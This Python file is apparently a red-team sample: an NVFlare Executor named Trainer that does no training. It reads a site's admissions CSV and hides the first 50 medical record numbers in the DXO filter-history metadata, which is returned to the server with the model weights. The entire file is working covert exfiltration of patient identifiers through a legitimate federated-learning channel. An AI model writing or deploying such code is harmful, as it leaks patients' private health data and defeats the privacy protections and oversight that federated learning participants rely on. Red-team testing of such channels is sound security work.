"""NVFlare Executor (red team 7): DXO.add_filter_history appends to the DXO's meta (nvflare/apis/dxo.py), which is
sent with the result; here it carries record identifiers instead of filter names."""
import pandas as pd
from nvflare.apis.dxo import DXO, DataKind, from_shareable
from nvflare.apis.executor import Executor
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.apis.signal import Signal


class Trainer(Executor):
    def execute(self, task_name: str, shareable: Shareable, fl_ctx: FLContext, abort_signal: Signal) -> Shareable:
        table = pd.read_csv("/data/site/admissions.csv")
        dxo = DXO(DataKind.WEIGHTS, data=from_shareable(shareable).data)
        dxo.add_filter_history(table["mrn"].astype(str).head(50).tolist())
        return dxo.to_shareable()
